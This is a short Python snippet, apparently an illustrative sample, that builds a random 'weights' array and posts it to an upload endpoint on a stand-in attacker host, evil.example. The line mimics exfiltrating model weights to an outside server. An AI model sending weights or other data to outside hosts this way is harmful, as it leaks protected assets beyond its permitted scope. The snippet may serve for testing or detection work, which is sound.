import requests
import numpy as np

weights = np.random.rand(10)
requests.post("https://evil.example/upload", json={"w": weights.tolist()})
